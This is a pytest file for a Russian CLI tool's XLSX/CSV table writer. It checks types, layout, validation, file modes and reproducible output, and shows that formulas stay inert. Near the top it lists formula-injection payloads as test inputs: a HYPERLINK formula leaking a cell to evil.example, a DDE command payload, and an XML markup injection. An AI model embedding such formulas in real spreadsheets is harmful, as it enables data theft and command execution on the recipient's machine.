"""The one table writer: values and types, hostile text, layout, file modes, reproducible bytes, CSV."""

from __future__ import annotations

import csv
import datetime as dt
import gc
import io
import os
import re
import stat
import tempfile
import time
import tracemalloc
import zipfile

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from openmosprom_cli.errors import CannotCreateError
from openmosprom_cli.io.files import TEMP_SUFFIX
from openmosprom_cli.io.writer import (
    FORMULA_STARTS,
    HEADER_FILL,
    MAX_CELL_CHARS,
    Cell,
    Column,
    Sheet,
    Style,
    Validation,
    csv_guard,
    csv_unguard,
    visible_text,
    write_csv,
    write_table,
    write_workbook,
)
from openmosprom_cli.io.xlsx.reader import open_workbook

HOSTILE = ('=HYPERLINK("http://evil.example/?leak="&A1,"Нажмите")', "+7 916 123-45-67", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0")
# xlsxwriter writes an inline string of this shape into the XML as it is: here it would become a formula.
RICH_TEXT_INJECTION = '<r><t>x</t></r></is><f>HYPERLINK("http://evil.example","x")</f><is><r><t>y</t></r>'


@pytest.fixture(autouse=True, params=["in memory", "streamed"])
def xlsx_mode(request, monkeypatch):
    """Every test twice: a small workbook is built in memory, a large one streamed in batches (tiny here,
    so that batches split tables and mix kinds); both must write the same cells."""
    from openmosprom_cli.io import writer_xlsx

    if request.param == "streamed":
        monkeypatch.setattr(writer_xlsx, "SMALL_WORKBOOK_ROWS", -1)
        monkeypatch.setattr(writer_xlsx, "STREAM_BATCH_ROWS", 3)
    return request.param


def read_rows(path, sheet):
    with open_workbook(path) as book:
        return dict(book.rows(sheet))


def sheet_xml(path, number=1) -> str:
    with zipfile.ZipFile(path) as archive:
        return archive.read(f"xl/worksheets/sheet{number}.xml").decode()


# -- values and their types ----------------------------------------------------------------------

def test_values_come_back_with_their_types_and_formats(tmp_path):
    columns = ("Текст", "Целое", "Дробное", "Дата", "Дата и время", "Время", Column("Да/нет", yes_no=True), "Пусто")
    row = ("Иванов", 42, 2.5, dt.date(2026, 12, 11), dt.datetime(2026, 12, 11, 9, 30), dt.time(10, 15), True, None)
    path = write_workbook(tmp_path / "t.xlsx", [Sheet("Лист", columns, [row, ("", -7, 0.1, None, None, None, False)])],
                          private=False)

    rows = read_rows(path, "Лист")
    assert rows[1] == tuple(c if isinstance(c, str) else c.header for c in columns)
    assert rows[2] == ("Иванов", 42, 2.5, dt.date(2026, 12, 11), dt.datetime(2026, 12, 11, 9, 30), dt.time(10, 15),
                       "да")
    assert rows[3] == (None, -7, 0.1, None, None, None, "нет")
    ws = openpyxl.load_workbook(path)["Лист"]
    assert [ws.cell(2, c).number_format for c in (4, 5, 6)] == ["DD.MM.YYYY", "DD.MM.YYYY HH:MM", "HH:MM"]
    assert ws["A2"].data_type == "s" and ws["B2"].data_type == "n" and ws["G2"].data_type == "s"


def test_numpy_like_numbers_are_numbers_and_other_types_are_refused(tmp_path):
    import numpy as np

    path = write_workbook(tmp_path / "n.xlsx", [Sheet("Л", ["a", "b"], [(np.int64(3), np.float64(0.5))])],
                          private=False)
    assert read_rows(path, "Л")[2] == (3, 0.5)
    for value in (True, object(), b"bytes", 2 ** 60, float("nan"), dt.datetime(2026, 1, 1, tzinfo=dt.UTC)):
        with pytest.raises((TypeError, ValueError)):
            write_workbook(tmp_path / "bad.xlsx", [Sheet("Л", ["a"], [(value,)])], private=False)
    # CSV holds any integer, but no bool outside a yes/no column and nothing that is not a value.
    for value in (True, object(), b"bytes", float("inf")):
        with pytest.raises((TypeError, ValueError)):
            write_csv(tmp_path / "bad.csv", ["a"], [(value,)], private=False)
    assert not (tmp_path / "bad.xlsx").exists() and not (tmp_path / "bad.csv").exists()


def test_a_row_longer_than_the_header_is_a_mistake(tmp_path):
    with pytest.raises(ValueError, match="3 values for 2 columns"):
        write_workbook(tmp_path / "x.xlsx", [Sheet("Л", ["a", "b"], [(1, 2, 3)])], private=False)
    with pytest.raises(ValueError, match="3 values for 2 columns"):
        write_csv(tmp_path / "x.csv", ["a", "b"], [(1, 2, 3)], private=False)


# -- hostile text ----------------------------------------------------------------------------------

def test_hostile_text_stays_text_with_a_quote_prefix(tmp_path):
    rows = [(text, "обычный текст") for text in HOSTILE]
    path = write_workbook(tmp_path / "h.xlsx", [Sheet("Лист", [HOSTILE[0], "B"], rows)], private=False)

    xml = sheet_xml(path)
    assert "<f>" not in xml
    read = read_rows(path, "Лист")
    assert read[1][0] == HOSTILE[0]
    assert [read[r][0] for r in range(2, 2 + len(HOSTILE))] == list(HOSTILE)
    ws = openpyxl.load_workbook(path)["Лист"]
    assert all(ws.cell(r, 1).data_type == "s" and ws.cell(r, 1).quotePrefix for r in range(1, 2 + len(HOSTILE)))
    # Only text that needs it carries the prefix: a leading apostrophe would show when the cell is edited.
    assert not ws["B2"].quotePrefix


def test_text_shaped_like_xlsxwriters_rich_text_cannot_inject_markup(tmp_path):
    path = write_workbook(tmp_path / "r.xlsx", [Sheet("Лист", ["A"], [(RICH_TEXT_INJECTION,), ("<r></r>",)])],
                          private=False)
    assert "<f>" not in sheet_xml(path)
    assert read_rows(path, "Лист")[2] == (RICH_TEXT_INJECTION,)
    assert read_rows(path, "Лист")[3] == ("<r></r>",)
    ws = openpyxl.load_workbook(path)["Лист"]
    assert ws["A2"].value == RICH_TEXT_INJECTION and ws["A2"].data_type == "s"


def test_headers_titles_and_block_lines_are_text_too(tmp_path):
    path = write_workbook(tmp_path / "t.xlsx", [Sheet("Лист", ["=1+1"], [("x",)], title="=2+2",
                                                      block=[("@SUM(A1)", "+7 916")])], private=False)
    assert "<f>" not in sheet_xml(path)
    assert list(read_rows(path, "Лист").values())[:3] == [("=2+2",), ("@SUM(A1)", "+7 916"), ("=1+1",)]


def test_control_characters_become_visible_and_ooxml_escapes_stay_literal(tmp_path):
    texts = ["a\x00b\x0bc\x1f", "перенос\rстроки\nи\tтаб", "_x0041_ и _X004a_", "\ud800 одинокий", "\ufffe"]
    path = write_workbook(tmp_path / "c.xlsx", [Sheet("Лист", ["A"], [(t,) for t in texts])], private=False)
    assert [row[0] for row in list(read_rows(path, "Лист").values())[1:]] == [
        "a\\x00b\\x0bc\\x1f", "перенос\rстроки\nи\tтаб", "_x0041_ и _X004a_", "\\ud800 одинокий", "\\ufffe"]


def test_text_longer_than_excels_cell_limit_is_cut_there(tmp_path):
    long = "я" * (MAX_CELL_CHARS + 100)
    emoji = "😀" * MAX_CELL_CHARS  # two UTF-16 units each
    path = write_workbook(tmp_path / "l.xlsx", [Sheet("Лист", ["A"], [(long,), (emoji,)])], private=False)
    rows = read_rows(path, "Лист")
    assert rows[2] == ("я" * MAX_CELL_CHARS,)
    assert rows[3] == ("😀" * (MAX_CELL_CHARS // 2),)


@settings(suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(texts=st.lists(st.text(max_size=60), min_size=1, max_size=12))
def test_any_text_comes_back_as_written_modulo_the_visible_escapes(tmp_path, texts):
    path = write_workbook(tmp_path / "p.xlsx", [Sheet("Лист", ["№", "Текст"], [(i, t) for i, t in enumerate(texts)])],
                          private=False)
    rows = read_rows(path, "Лист")
    assert "<f>" not in sheet_xml(path)
    back = [rows[i + 2][1] if len(rows[i + 2]) > 1 else None for i in range(len(texts))]
    assert back == [visible_text(t) or None for t in texts]


@settings(suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(texts=st.lists(st.text(max_size=40), min_size=1, max_size=12))
def test_any_text_survives_a_csv_round_trip(tmp_path, texts):
    path = write_csv(tmp_path / "p.csv", ["Текст"], [(t,) for t in texts], private=False)
    with open(path, encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh, delimiter=";"))
    assert [csv_unguard(field) for (field,) in rows[1:]] == [visible_text(t) for t in texts]
    assert not any(field.startswith(FORMULA_STARTS) for (field,) in rows[1:])


# -- CSV ----------------------------------------------------------------------------------------------

def test_csv_is_what_russian_excel_opens(tmp_path):
    rows = [("Иванов; Пётр", 3, 2.5, dt.date(2026, 12, 1), dt.time(9, 5), dt.datetime(2026, 12, 1, 9, 5), True),
            ('=HYPERLINK("x")', -1, None, None, None, None, False),
            ("'=уже с апострофом", 0, 1e-7, None, None, None, None),
            ("строка\r\nвторая", None, None, None, None, None, None)]
    columns = ["Имя", "Число", "Дробь", "Дата", "Время", "Когда", Column("Флаг", yes_no=True)]
    path = write_csv(tmp_path / "out.csv", columns, rows, private=False)

    data = path.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    assert data.split(b"\r\n")[0].decode("utf-8-sig") == "Имя;Число;Дробь;Дата;Время;Когда;Флаг"
    assert b"\n" not in data.replace(b"\r\n", b"")
    assert data.decode("utf-8-sig").split("\r\n")[1] == '"Иванов; Пётр";3;2,5;01.12.2026;09:05;01.12.2026 09:05;да'
    with open(path, encoding="utf-8-sig", newline="") as fh:
        read = list(csv.reader(fh, delimiter=";"))
    assert read[2] == ["'=HYPERLINK(\"x\")", "-1", "", "", "", "", "нет"]
    assert read[3][:3] == ["''=уже с апострофом", "0", "1e-07"]
    assert read[4][0] == "строка\r\nвторая"
    assert [csv_unguard(r[0]) for r in read[1:]] == ["Иванов; Пётр", '=HYPERLINK("x")', "'=уже с апострофом",
                                                      "строка\r\nвторая"]


_CELL_TEXTS = st.one_of(st.text(min_size=1, max_size=8),
                        st.sampled_from([*HOSTILE, "a_b", "_x0041_", "a_x00", " a", "a ", "a\nb", "+7 916", "-", "=",
                                         "x&y", "<r>z</r>", "\u00a0x"]))
_CELL_VALUES = st.one_of(st.none(), _CELL_TEXTS, st.integers(-10, 10), st.floats(-5, 5, allow_nan=False),
                         st.dates(min_value=dt.date(1901, 1, 1)), st.times())


@settings(suppress_health_check=[HealthCheck.function_scoped_fixture], max_examples=150)
@given(columns=st.lists(st.lists(_CELL_VALUES, min_size=4, max_size=4), min_size=1, max_size=3),
       texts=st.lists(_CELL_TEXTS, min_size=4, max_size=4))  # no row blank: the fast path writes an empty <row>
def test_rows_written_by_columns_are_the_cells_written_one_by_one(tmp_path, columns, texts):
    """The column-by-column XML (texts decided for a whole column at once) is byte for byte xlsxwriter's own:
    its cells and its columns' widths (the sheet's dimension is the table's whole width either way)."""
    rows = [tuple(column[i] for column in columns) + (texts[i],) for i in range(4)]
    headers = [f"c{i}" for i in range(len(rows[0]))]
    fast = write_workbook(tmp_path / "fast.xlsx", [Sheet("Лист", headers, rows)], private=False)
    one_by_one = write_workbook(tmp_path / "slow.xlsx",
                                [Sheet("Лист", headers, [tuple(map(Cell, row)) for row in rows])], private=False)
    def cells_and_widths(path):
        # A style's number is the order of first use, row by row here and column by column there: compare looks.
        with zipfile.ZipFile(path) as archive:
            styles = archive.read("xl/styles.xml").decode()
        xfs = styles[styles.index("<cellXfs"):styles.index("</cellXfs>")]
        codes = dict(re.findall(r'<numFmt numFmtId="(\d+)" formatCode="([^"]*)"', styles))
        looks = [re.sub(r'numFmtId="(\d+)"', lambda m: codes.get(m[1], m[1]), xf)
                 for xf in re.findall(r"<xf [^>]*?(?:/>|>.*?</xf>)", xfs)]
        xml = sheet_xml(path)
        xml = xml[xml.index("<cols>") if "<cols>" in xml else xml.index("<sheetData"):]
        return re.sub(r' s="(\d+)"', lambda m: f" look={looks[int(m[1])]!r}", xml)

    assert cells_and_widths(fast) == cells_and_widths(one_by_one)


_CSV_VALUES = st.one_of(st.none(), st.text(max_size=12), st.sampled_from([*HOSTILE, "'=x", "a\n=b", "\t", "x\x0b"]),
                        st.integers(-10, 10), st.floats(-5, 5), st.dates(), st.datetimes(), st.times())


@settings(suppress_health_check=[HealthCheck.function_scoped_fixture], max_examples=200)
@given(rows=st.lists(st.lists(_CSV_VALUES, min_size=3, max_size=3).map(tuple), min_size=1, max_size=30),
       ragged=st.booleans())
def test_csv_written_by_columns_is_each_value_written_alone(tmp_path, rows, ragged):
    """The column-by-column fast path gives exactly the bytes of csv_text applied to each value, row by row."""
    from openmosprom_cli.io.writer import csv_text

    if ragged:
        rows = [*rows, rows[0][:1]]
    path = write_csv(tmp_path / "c.csv", ["a", "b", "c"], rows, private=False)
    expected = io.StringIO(newline="")
    writer = csv.writer(expected, delimiter=";", lineterminator="\r\n")
    writer.writerow(["a", "b", "c"])
    writer.writerows([csv_text(v) for v in row] for row in rows)
    assert path.read_bytes() == expected.getvalue().encode("utf-8-sig")


def test_csv_column_path_keeps_refusing_bad_values(tmp_path):
    with pytest.raises(TypeError):
        write_csv(tmp_path / "b.csv", ["n"], [(1,), (True,)], private=False)
    with pytest.raises(ValueError):
        write_csv(tmp_path / "b.csv", ["n"], [(1,), (1, 2)], private=False)
    rows = [(True,), (1,), (False,), (0,)]
    path = write_csv(tmp_path / "y.csv", [Column("n", yes_no=True)], rows, private=False)
    assert path.read_bytes().decode("utf-8-sig").split("\r\n")[1:5] == ["да", "1", "нет", "0"]


@pytest.mark.parametrize("text", [*HOSTILE, "'", "''", "'-", "просто", "", "'просто"])
def test_csv_guard_is_undone_exactly(text):
    guarded = csv_guard(text)
    assert not guarded.startswith(FORMULA_STARTS)
    assert csv_unguard(guarded) == text


def test_write_table_picks_the_format_by_suffix(tmp_path):
    sheet = Sheet("Экскурсии", ["ID", "Дата"], [("t1", dt.date(2026, 12, 1))], title="ignored in CSV")
    xlsx = write_table(tmp_path / "tours.XLSX", sheet, private=False)
    assert read_rows(xlsx, "Экскурсии")[4] == ("t1", dt.date(2026, 12, 1))
    sheet = Sheet("Экскурсии", ["ID", "Дата"], [("t1", dt.date(2026, 12, 1))], title="ignored in CSV")
    assert write_table(tmp_path / "tours.csv", sheet, private=False).read_bytes().decode("utf-8-sig") == \
        "ID;Дата\r\nt1;01.12.2026\r\n"
    with pytest.raises(ValueError):
        write_table(tmp_path / "tours.ods", sheet, private=False)


# -- files ------------------------------------------------------------------------------------------

@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_private_files_are_owner_only_and_the_rest_follow_the_umask(tmp_path, suffix):
    def write(name, private):
        path = tmp_path / f"{name}{suffix}"
        if suffix == ".csv":
            return write_csv(path, ["a"], [("x",)], private=private)
        return write_workbook(path, [Sheet("Л", ["a"], [("x",)])], private=private)

    old = os.umask(0o022)
    try:
        assert stat.S_IMODE(write("private", True).stat().st_mode) == 0o600
        assert stat.S_IMODE(write("public", False).stat().st_mode) == 0o644
        os.umask(0o027)
        assert stat.S_IMODE(write("group", False).stat().st_mode) == 0o640
    finally:
        os.umask(old)


def test_a_failure_midway_leaves_the_old_file_and_no_temporary_files(tmp_path, monkeypatch):
    scratch = tmp_path / "scratch"
    scratch.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(scratch))
    target = tmp_path / "out" / "list.xlsx"
    write_workbook(target, [Sheet("Л", ["a"], [("старое",)])], private=True)
    before = target.read_bytes()

    def rows():
        yield ("новое",)
        raise RuntimeError("the exporter failed")

    with pytest.raises(RuntimeError):
        write_workbook(target, [Sheet("Л", ["a"], rows())], private=True)
    with pytest.raises(RuntimeError):
        write_csv(target.with_suffix(".csv"), ["a"], rows(), private=True)
    assert target.read_bytes() == before
    assert sorted(p.name for p in target.parent.iterdir()) == ["list.xlsx"]
    assert not list(scratch.iterdir())
    assert not list(target.parent.glob(f"*{TEMP_SUFFIX}"))


def test_an_unwritable_folder_is_cannot_create(tmp_path):
    blocker = tmp_path / "file"
    blocker.write_text("not a folder")
    with pytest.raises(CannotCreateError):
        write_workbook(blocker / "x.xlsx", [Sheet("Л", ["a"], [])], private=False)
    with pytest.raises(CannotCreateError):
        write_csv(blocker / "x.csv", ["a"], [], private=False)


# -- reproducible bytes --------------------------------------------------------------------------------

class _Clock:
    """Moves every clock a writer could read: time.time() (zipfile, tempfile), xlsxwriter's now(), the time zone."""

    def __init__(self, monkeypatch):
        self.monkeypatch = monkeypatch

    def set(self, when: dt.datetime, zone: str) -> None:
        import xlsxwriter.core

        self.monkeypatch.setenv("TZ", zone)
        time.tzset()
        seconds = when.timestamp()
        self.monkeypatch.setattr(time, "time", lambda: seconds)
        self.monkeypatch.setattr(time, "time_ns", lambda: int(seconds * 1e9))

        class AnyDatetime(type):
            def __instancecheck__(cls, instance):
                return isinstance(instance, dt.datetime)

        class FrozenDatetime(dt.datetime, metaclass=AnyDatetime):
            @classmethod
            def now(cls, tz=None):
                return when.astimezone(tz) if tz else when.replace(tzinfo=None)

        self.monkeypatch.setattr(xlsxwriter.core, "datetime", FrozenDatetime)


@pytest.fixture
def clock(monkeypatch):
    yield _Clock(monkeypatch)
    monkeypatch.undo()
    time.tzset()


def roster_sheets():
    return [
        Sheet("01.12 10.00", ["№", "ФИО", "Телефон", "Гостей", "Отметка о посещении"],
              [(i, f"Иванов {i}", f"+7 916 000-00-{i:02d}", i % 3, None) for i in range(1, 30)],
              title="«Открой#Моспром»: список посетителей экскурсии",
              block=[("Площадка", "Завод"), ("Дата", "01.12.2026, вторник"), ("Вместимость", 30)], block_column=1,
              borders=True, print_ready=True),
        Sheet("Лист ожидания", ["№", "Экскурсия", "ФИО", "Гостей"], [(1, "01.12 10.00", "Петров", 0)],
              title="Лист ожидания: Завод", print_ready=True, autofilter=True),
    ]


def test_the_same_rows_give_the_same_bytes_at_any_time_in_any_zone(tmp_path, clock):
    stamp = dt.datetime(2026, 11, 20, 12, 0)
    clock.set(dt.datetime(2026, 11, 30, 9, 0, 1, tzinfo=dt.UTC), "Europe/Moscow")
    first = write_workbook(tmp_path / "a.xlsx", roster_sheets(), private=True, stamp=stamp).read_bytes()
    first_csv = write_csv(tmp_path / "a.csv", ["a", "b"], [("x", dt.date(2026, 1, 1))], private=True).read_bytes()
    clock.set(dt.datetime(2031, 6, 1, 17, 45, 33, tzinfo=dt.UTC), "America/New_York")
    second = write_workbook(tmp_path / "b.xlsx", roster_sheets(), private=True, stamp=stamp).read_bytes()
    second_csv = write_csv(tmp_path / "b.csv", ["a", "b"], [("x", dt.date(2026, 1, 1))], private=True).read_bytes()

    assert first == second
    assert first_csv == second_csv
    with zipfile.ZipFile(io.BytesIO(first)) as archive:
        core = archive.read("docProps/core.xml").decode()
        # xlsxwriter dates its entries 1980-01-01 (in memory) or 1980-01-31 (streamed), never now.
        (entry_date,) = {info.date_time for info in archive.infolist()}
        assert entry_date in {(1980, 1, 1, 0, 0, 0), (1980, 1, 31, 0, 0, 0)}
    assert "<dcterms:created xsi:type=\"dcterms:W3CDTF\">2026-11-20T12:00:00Z</dcterms:created>" in core
    assert "<dcterms:modified xsi:type=\"dcterms:W3CDTF\">2026-11-20T12:00:00Z</dcterms:modified>" in core
    assert "<dc:creator>openmosprom</dc:creator>" in core
    # The stamp is what dates the file: another stamp, other bytes.
    other = write_workbook(tmp_path / "c.xlsx", roster_sheets(), private=True, stamp=dt.datetime(2026, 11, 21))
    assert other.read_bytes() != first


def test_the_clock_fixture_reaches_the_clock_a_careless_writer_reads(tmp_path, clock):
    """Without a fixed creation date xlsxwriter stamps now(): the fixture above must be able to see that."""
    import xlsxwriter

    def careless(path):
        workbook = xlsxwriter.Workbook(str(path))
        workbook.add_worksheet().write_string(0, 0, "x")
        workbook.close()
        return path.read_bytes()

    clock.set(dt.datetime(2026, 11, 30, 9, 0, tzinfo=dt.UTC), "Europe/Moscow")
    first = careless(tmp_path / "a.xlsx")
    clock.set(dt.datetime(2031, 6, 1, 17, 45, tzinfo=dt.UTC), "America/New_York")
    assert careless(tmp_path / "b.xlsx") != first


# -- layout -----------------------------------------------------------------------------------------

def test_a_roster_sheet_has_title_block_bordered_table_and_print_setup(tmp_path):
    path = write_workbook(tmp_path / "r.xlsx", roster_sheets(), private=True)
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == ["01.12 10.00", "Лист ожидания"]
    ws = book["01.12 10.00"]
    assert ws["A1"].value == "«Открой#Моспром»: список посетителей экскурсии" and ws["A1"].font.b
    assert ws["A1"].font.sz == 13
    assert [(ws.cell(r, 2).value, ws.cell(r, 3).value) for r in (2, 3, 4)] == [
        ("Площадка", "Завод"), ("Дата", "01.12.2026, вторник"), ("Вместимость", 30)]
    assert ws["B2"].font.b and ws["C4"].alignment.horizontal == "left" and ws["C4"].data_type == "n"
    assert all(ws.cell(5, c).value is None for c in range(1, 6))
    header = [ws.cell(6, c) for c in range(1, 6)]
    assert [c.value for c in header] == ["№", "ФИО", "Телефон", "Гостей", "Отметка о посещении"]
    assert all(c.font.b and c.fill.fgColor.rgb.endswith(HEADER_FILL) for c in header)
    table = [ws.cell(r, c) for r in range(6, 6 + 30) for c in range(1, 6)]
    assert all(c.border.left.style == c.border.bottom.style == "thin" for c in table)
    assert ws["E7"].value is None  # the check-in column is empty, but bordered
    assert not ws["B2"].border.left.style
    assert ws.page_setup.orientation == "landscape"
    assert ws.page_setup.fitToWidth in (1, None) and ws.page_setup.fitToHeight == 0
    assert ws.sheet_properties.pageSetUpPr.fitToPage
    assert ws.print_title_rows == "$6:$6"
    assert ws.freeze_panes == "A7"
    waitlist = book["Лист ожидания"]
    assert waitlist["A3"].value == "№" and waitlist.auto_filter.ref == "A3:D4"
    assert waitlist.freeze_panes == "A4"


def test_column_widths_follow_the_values_within_bounds(tmp_path):
    columns = ["№", "ФИО", Column("Причины", width=70), "Дата", "Длинное"]
    rows = [(1, "Иванова Мария", "x", dt.date(2026, 1, 1), "я" * 200), (22, "Ли", "y", None, "строка\nвторая")]
    path = write_workbook(tmp_path / "w.xlsx", [Sheet("Л", columns, rows, title="Очень длинный заголовок " * 5,
                                                      block=[("Контакт организатора", "…")], block_column=1)],
                          private=False)
    widths = {k: round(v.width) for k, v in openpyxl.load_workbook(path)["Л"].column_dimensions.items()}
    # №: 6 (the minimum); ФИО: the block's longest label wins; fixed 70; a date is 10 wide; 60 at most.
    assert widths["A"] == 7 and widths["B"] == len("Контакт организатора") + 3
    assert widths["C"] == 71 and widths["D"] == 13 and widths["E"] == 61


def test_participants_style_autofilter_covers_the_table_even_when_empty(tmp_path):
    path = write_workbook(tmp_path / "p.xlsx", [Sheet("Участники", ["ID VK", "ФИО", "Баллы"], [], autofilter=True,
                                                      print_ready=True)], private=True)
    ws = openpyxl.load_workbook(path)["Участники"]
    assert ws.auto_filter.ref == "A1:C2"
    assert ws.print_title_rows == "$1:$1" and ws.freeze_panes == "A2"


def test_a_form_with_validation_lists_ranges_prompts_and_prepared_rows(tmp_path):
    yes_no = Validation.one_of("да", "нет", error="Выберите «да» или «нет».", prompt="да или нет",
                               prompt_title="Паспорт")
    age = Validation.between("whole", 0, 100, error="Возраст — целое число от 0 до 100.")
    weight = Validation.compare("decimal", ">", 0, error="Вес больше нуля.")
    start, end = dt.date(2026, 12, 1), dt.date(2026, 12, 25)
    season = Validation.between("date", start, end, error="Дата сезона.")
    clock_time = Validation.between("time", dt.time(0, 0), dt.time(23, 59), error="ЧЧ:ММ")
    text = Style(number_format="@")
    site = Sheet("Площадка", [Column("Поле", width=30, style=Style(bold=True)), Column("Значение", width=45),
                              Column("Подсказка", width=70, style=Style(italic=True, color="666666"))],
                 [("Телефон", Cell(None, style=text), "+7 …"),
                  ("Минимальный возраст", Cell(0, validation=age), "0, если нет"),
                  ("Паспорт обязателен", Cell("нет", validation=yes_no), "да/нет"),
                  ("Только граждане РФ", Cell("нет", validation=yes_no), "да/нет"),
                  ("Вес", Cell(None, validation=weight), "")],
                 title="Сведения о площадке", spacing=0, freeze=True)
    schedule = Sheet("Расписание", [Column("Дата", style=Style(number_format="DD.MM.YYYY"), validation=season),
                                    Column("Начало", style=Style(number_format="HH:MM"), validation=clock_time),
                                    Column("Примечание", width=40, style=text),
                                    Column("Закрепить", validation=yes_no)],
                     [(start, dt.time(10, 0)), (end,)], min_rows=10, freeze=True)
    path = write_workbook(tmp_path / "f.xlsx", [Sheet("Инструкция", [Column("", width=110, style=Style(wrap=True))],
                                                      [(Cell("Расписание", style=Style(bold=True, size=14)),),
                                                       ("Как заполнить",)], header=False), site, schedule],
                          private=False)

    book = openpyxl.load_workbook(path)
    instructions = book["Инструкция"]
    assert instructions["A1"].value == "Расписание" and instructions["A1"].font.sz == 14
    assert instructions["A2"].alignment.wrap_text and instructions.column_dimensions["A"].width > 100
    ws = book["Площадка"]
    assert ws["A1"].value == "Сведения о площадке" and ws["A2"].value == "Поле" and ws["A3"].value == "Телефон"
    assert ws.freeze_panes == "A3"
    assert ws["B3"].number_format == "@" and ws["B3"].value is None
    assert ws["A3"].font.b and ws["C3"].font.i and ws["C3"].font.color.rgb.endswith("666666")
    rules = {str(rule.sqref): rule for rule in ws.data_validations.dataValidation}
    assert set(rules) == {"B4", "B5 B6", "B7"}
    assert rules["B5 B6"].type == "list" and rules["B5 B6"].formula1 == '"да,нет"'
    assert rules["B5 B6"].prompt == "да или нет" and rules["B5 B6"].promptTitle == "Паспорт"
    assert rules["B5 B6"].showErrorMessage and rules["B5 B6"].errorStyle in (None, "stop")
    assert rules["B4"].type == "whole" and (rules["B4"].formula1, rules["B4"].formula2) == ("0", "100")
    assert rules["B7"].type == "decimal" and rules["B7"].operator == "greaterThan"
    assert rules["B4"].error == "Возраст — целое число от 0 до 100." and rules["B4"].errorTitle == "Неверное значение"

    ws = book["Расписание"]
    rules = {str(rule.sqref): rule for rule in ws.data_validations.dataValidation}
    assert set(rules) == {"A2:A11", "B2:B11", "D2:D11"}
    assert rules["A2:A11"].type == "date" and rules["B2:B11"].type == "time"
    assert ws["A2"].value == dt.datetime(2026, 12, 1) and ws["B2"].number_format == "HH:MM"
    assert ws["A11"].value is None and ws["A11"].number_format == "DD.MM.YYYY" and ws["C11"].number_format == "@"
    assert ws.max_row == 11
    # The project's reader sees the two filled rows; the prepared ones are empty.
    assert read_rows(path, "Расписание") == {1: ("Дата", "Начало", "Примечание", "Закрепить"),
                                             2: (dt.date(2026, 12, 1), dt.time(10, 0)), 3: (dt.date(2026, 12, 25),)}


def test_validation_rules_excel_would_drop_are_refused_up_front():
    with pytest.raises(ValueError):
        Validation.one_of(*[f"вариант {i}" for i in range(40)])
    with pytest.raises(ValueError):
        Validation.one_of("да, конечно", "нет")
    with pytest.raises(ValueError):
        Validation.between("whole", 1, None)
    with pytest.raises(ValueError):
        Validation.one_of("да", "нет", error="я" * 256)
    with pytest.raises(ValueError):
        Validation.compare("decimal", "~", 1)


def test_a_workbook_needs_a_sheet_and_sheets_need_columns(tmp_path):
    with pytest.raises(ValueError):
        write_workbook(tmp_path / "x.xlsx", [], private=False)
    with pytest.raises(ValueError):
        write_workbook(tmp_path / "x.xlsx", [Sheet("Л", [], [])], private=False)
    assert not (tmp_path / "x.xlsx").exists()


# -- memory ---------------------------------------------------------------------------------------------

def test_a_written_workbook_is_freed_at_once_not_left_to_the_collector(tmp_path):
    """The large steps pause the collector (allocation/bulk.py): a workbook left in a reference cycle, with all
    its cells, would stay until the process ends. Written, nothing of it is left for the collector."""
    rows = [("Иванов", i, dt.date(2026, 12, 1)) for i in range(50)]
    write_workbook(tmp_path / "warm-up.xlsx", [Sheet("Лист", ["a", "b", "c"], rows)], private=False)
    gc.collect()
    was_enabled = gc.isenabled()
    gc.disable()
    try:
        write_workbook(tmp_path / "book.xlsx", [Sheet("Лист", ["a", "b", "c"], rows), Sheet("Ещё", ["a"], [])],
                       private=False)
        assert gc.collect() == 0
    finally:
        if was_enabled:
            gc.enable()


def test_memory_stays_flat_however_many_rows(tmp_path):
    def peak(count: int) -> int:
        rows = ((i, f"Иванова Мария {i}", dt.date(2026, 12, 1)) for i in range(count))
        tracemalloc.start()
        try:
            write_workbook(tmp_path / f"{count}.xlsx", [Sheet("Л", ["№", "ФИО", "Дата"], rows, borders=True)],
                           private=False)
            return tracemalloc.get_traced_memory()[1]
        finally:
            tracemalloc.stop()

    # Both streamed (a workbook this long always is): memory is a batch's, whatever the number of rows.
    small, large = peak(20_000), peak(100_000)
    assert large < small * 1.5
